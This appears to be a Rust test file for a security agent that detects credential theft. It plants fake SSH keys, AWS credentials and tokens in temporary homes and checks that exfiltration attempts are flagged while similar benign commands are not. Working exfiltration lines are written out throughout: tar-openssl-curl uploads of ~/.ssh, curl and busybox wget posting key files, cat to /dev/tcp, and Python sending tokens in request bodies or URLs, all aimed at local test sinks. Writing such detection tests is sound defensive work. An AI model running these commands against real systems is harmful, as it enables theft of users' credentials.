//! Ways by which credentials are carried off, by the programs that lie on every host: each is a finding while nothing is known
//! yet of what is usual, and its benign twin is none.

use super::incidents::{acquitted, found};
use crate::{
    agent::Agent,
    command::act,
    events::{list, of_kind},
    machine::{Scratch, find, turn},
    plant,
    server::{Sink, TlsServer},
};
use std::{
    fs,
    os::unix::fs::PermissionsExt as _,
    path::{Path, PathBuf},
};

/// A home with keys of several kinds, and a project without. What is found again of the same key is counted and not reported, so
/// that each act has one of its own.
fn home(scratch: &Scratch, name: &str) -> PathBuf {
    let home = scratch.make("home").join(name);
    plant::aws_credentials(&home);
    let write = |name: &str, text: String| {
        let path = home.join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, text).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(0o600)).unwrap();
    };
    write(
        ".netrc",
        format!(
            "machine github.com login ada password {}\n",
            plant::github().value
        ),
    );
    write("project/readme", "nothing here\n".to_owned());
    fs::create_dir_all(home.join(".ssh")).unwrap();
    act("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-f"])
        .arg(home.join(".ssh/id_ed25519"))
        .run()
        .ok();
    home
}

/// A script of bash with the address of a sink, in a directory of its own.
fn run(home: &Path, work: &Path, url: &str, script: &str) -> u32 {
    fs::create_dir_all(work).unwrap();
    act("bash")
        .args(["-c", &format!("{script}\n:"), "x", url])
        .current_dir(work)
        .env("HOME", home)
        .limit(60)
        .run()
        .ok()
        .pid
}

/// `tar | openssl | curl`, and by a file: nothing of the key can be seen in what is sent.
pub fn packed_encrypted_and_uploaded() {
    let _turn = turn();
    let scratch = Scratch::new();
    let server = TlsServer::start(&scratch.make("tls"));
    let agent = Agent::start(&scratch);
    let url = server.url("/u");
    let work = scratch.join("work");
    let enc = "openssl enc -aes-256-cbc -pbkdf2 -pass pass:x";
    let attacks = [
        format!("tar -C \"$HOME\" -cz .ssh | {enc} | curl -skm 60 -T - \"$1\""),
        format!(
            "tar -C \"$HOME\" -czf a .ssh; {enc} -in a -out b; curl -skm 60 --data-binary @b \"$1\""
        ),
    ];
    let twins = [
        format!("tar -C \"$HOME/project\" -cz . | {enc} | curl -skm 60 -T - \"$1\""),
        // A backup of everything.
        format!("tar -cz \"$HOME\" | {enc} | curl -skm 60 -T - \"$1\""),
    ];
    for (n, attack) in attacks.iter().enumerate() {
        let home = home(&scratch, &format!("attack{n}"));
        found(&agent, run(&home, &work, &url, attack), "uploaded");
    }
    for (n, twin) in twins.iter().enumerate() {
        let home = home(&scratch, &format!("twin{n}"));
        acquitted(&agent, run(&home, &work, &url, twin));
    }
}

/// Files with keys that are given to clients to send; the same clients log in with the same files.
pub fn given_to_a_client_to_send() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Agent::start(&scratch);
    let home = home(&scratch, "ada");
    let url = format!("http://127.0.0.1:{}/u", sink.port);
    let work = scratch.join("work");
    let mut attacks = vec!["curl -sm 60 -F f=@\"$HOME/.ssh/id_ed25519\" \"$1\""];
    let mut twins = vec![
        "curl -sm 60 -F f=@\"$HOME/.ssh/id_ed25519.pub\" \"$1\"",
        "curl -sm 60 --netrc-file \"$HOME/.netrc\" -d x=y \"$1\"",
    ];
    // scp by a program in place of ssh that runs the other end here.
    let remote = "printf '#!/bin/bash\\nexec sh -c \"${!#}\"\\n' >r; chmod 755 r; ";
    let (copied, with) = (
        format!("{remote} scp -q -O -S \"$PWD/r\" \"$HOME/.ssh/id_ed25519\" h:\"$PWD/copy\""),
        format!(
            "{remote} echo x >f; scp -q -O -i \"$HOME/.ssh/id_ed25519\" -S \"$PWD/r\" f h:\"$PWD/copy\""
        ),
    );
    if find("scp").is_some() {
        attacks.push(&copied);
        twins.push(&with);
    }
    for attack in attacks {
        found(&agent, run(&home, &work, &url, attack), "uploaded");
    }
    for twin in twins {
        acquitted(&agent, run(&home, &work, &url, twin));
    }
}

/// Tokens in the body of a request, and keys that only sign; the same programs log in with them.
pub fn reported_in_a_body() {
    let _turn = turn();
    let scratch = Scratch::new();
    let server = TlsServer::start(&scratch.make("tls"));
    let agent = Agent::start(&scratch);
    let home = home(&scratch, "ada");
    let python = |code: &str| {
        let text = format!(
            "import os, re, ssl, sys, http.client, json
home = os.environ['HOME']
token = re.search('password (.*)', open(home + '/.netrc').read())[1]
host, port = re.match('https://([^:/]+):(\\\\d+)', sys.argv[1]).groups()
c = http.client.HTTPSConnection(host, int(port), context=ssl._create_unverified_context(), timeout=60)
{code}
c.getresponse().read()"
        );
        act("python3")
            .args(["-c", &text, &server.url("/")])
            .env("HOME", &home)
            .limit(60)
            .run()
            .ok()
            .pid
    };
    let root = python("c.request('POST', '/hook', json.dumps({'text': token}))");
    found(&agent, root, "in-body");
    let sent = of_kind(&agent.tree(root), "credential_sent");
    let in_body = |e: &&crate::events::Event| e.evidence.as_ref().is_some_and(|e| e.in_body);
    assert!(sent.iter().any(|e| in_body(&e)), "{}", list(&sent));
    let root = python("c.request('POST', '/hook', open(home + '/.ssh/id_ed25519', 'rb').read())");
    found(&agent, root, "key-sent");
    let root = python("c.request('POST', '/graphql', '{}', {'authorization': 'token ' + token})");
    acquitted(&agent, root);
    let sent = of_kind(&agent.tree(root), "credential_sent");
    assert!(
        !sent.is_empty() && !sent.iter().any(|e| in_body(&e)),
        "{}",
        list(&sent)
    );
}

/// `cat key >/dev/tcp/...`: a program that is no client sends it.
pub fn sent_by_a_shell() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::silent();
    let agent = Agent::start(&scratch);
    let home = home(&scratch, "ada");
    let port = sink.port.to_string();
    let work = scratch.join("work");
    let root = run(
        &home,
        &work,
        &port,
        "cat \"$HOME/.aws/credentials\" >/dev/tcp/127.0.0.1/$1",
    );
    found(&agent, root, "sent-by-shell");
    let root = run(&home, &work, &port, "echo hello >/dev/tcp/127.0.0.1/$1");
    acquitted(&agent, root);
}

/// A token in the address of a request, and what is packed as programs pack by themselves: who gets it needs no more.
pub fn reported_in_a_url_or_packed() {
    let _turn = turn();
    let scratch = Scratch::new();
    let server = TlsServer::start(&scratch.make("tls"));
    let agent = Agent::start(&scratch);
    let database = plant::database_url();
    let run = |code: &str| {
        let text = format!(
            "import base64, http.client, json, os, re, ssl, sys, zlib
token, database = os.environ['GITHUB_TOKEN'], os.environ['DATABASE_URL']
host, port = re.match('https://([^:/]+):(\\d+)', sys.argv[1]).groups()
c = http.client.HTTPSConnection(host, int(port), context=ssl._create_unverified_context(), timeout=60)
{code}
c.getresponse().read()"
        );
        act("python3")
            .args(["-c", &text, &server.url("/")])
            .env("GITHUB_TOKEN", &plant::github().value)
            .env("DATABASE_URL", &database.value)
            .limit(60)
            .run()
            .ok()
            .pid
    };
    let root =
        run("c.request('GET', '/p.gif?d=' + base64.urlsafe_b64encode(token.encode()).decode())");
    found(&agent, root, "in-url");
    let sent = of_kind(&agent.tree(root), "credential_sent");
    let in_url = |e: &crate::events::Event| e.evidence.as_ref().is_some_and(|e| e.in_url);
    assert!(sent.iter().any(in_url), "{}", list(&sent));
    // As it is packed by default, and the same in base64.
    let text = "json.dumps({'a': 'b' * 40, 't': token}).encode()";
    for packed in [
        format!("zlib.compress({text})"),
        format!("b'd=' + base64.b64encode(zlib.compress({text}, 9))"),
    ] {
        let root = run(&format!("c.request('POST', '/collect', {packed})"));
        found(&agent, root, "in-body");
    }
    let root = run("c.request('POST', '/collect', json.dumps({'e': database}))");
    found(&agent, root, "wrong-protocol");
    // The same token where it belongs, and what is packed without it.
    let root = run(
        "c.request('POST', '/p.gif?d=x', zlib.compress(b'nothing in it' * 9), {'authorization': 'token ' + token})",
    );
    acquitted(&agent, root);
    let sent = of_kind(&agent.tree(root), "credential_sent");
    assert!(
        !sent.is_empty() && !sent.iter().any(in_url),
        "{}",
        list(&sent)
    );
}

/// In a small container everything is one file: what a program is called as says what it does, and what it reads is no script.
pub fn by_a_program_of_many() {
    let _turn = turn();
    let Some(busybox) = find("busybox") else {
        return;
    };
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Agent::start(&scratch);
    let home = home(&scratch, "ada");
    let url = format!("http://127.0.0.1:{}/u", sink.port);
    let work = scratch.join("work");
    let busybox = busybox.display();
    let root = run(
        &home,
        &work,
        &url,
        &format!("{busybox} wget -q -O- --post-file=\"$HOME/.netrc\" \"$1\""),
    );
    found(&agent, root, "uploaded");
    let read = of_kind(&agent.tree(root), "finding");
    let seen = |e: &crate::events::Event| e.finding.as_ref().map(|f| f.seen.clone());
    let said: Vec<String> = read.iter().filter_map(seen).collect();
    assert!(
        said.iter().any(|s| s.contains("busybox wget was given")),
        "{said:?}"
    );
    let root = run(&home, &work, &url, &format!("{busybox} wget -q -O- \"$1\""));
    acquitted(&agent, root);
    let root = run(
        &home,
        &work,
        &url,
        &format!("{busybox} cat \"$HOME/.ssh/id_ed25519\" >/dev/null"),
    );
    acquitted(&agent, root);
}

/// A key that a script encrypts by itself: nothing of it can be seen, but that the script logged in nowhere.
pub fn encrypted_by_a_script() {
    let _turn = turn();
    let scratch = Scratch::new();
    let server = TlsServer::start(&scratch.make("tls"));
    let agent = Agent::start(&scratch);
    let home = home(&scratch, "ada");
    let run = |read: &str| {
        let text = format!(
            "import http.client, os, re, ssl, sys
data = {read}
pad = os.urandom(len(data))
host, port = re.match('https://([^:/]+):(\\d+)', sys.argv[1]).groups()
c = http.client.HTTPSConnection(host, int(port), context=ssl._create_unverified_context(), timeout=60)
c.request('POST', '/k', bytes(a ^ b for a, b in zip(data, pad)))
c.getresponse().read()"
        );
        act("python3")
            .args(["-c", &text, &server.url("/")])
            .env("HOME", &home)
            .limit(60)
            .run()
            .ok()
            .pid
    };
    let root = run("open(os.environ['HOME'] + '/.ssh/id_ed25519', 'rb').read()");
    found(&agent, root, "sent-after-key");
    let root = run("open(os.environ['HOME'] + '/.ssh/id_ed25519.pub', 'rb').read() * 5");
    acquitted(&agent, root);
}
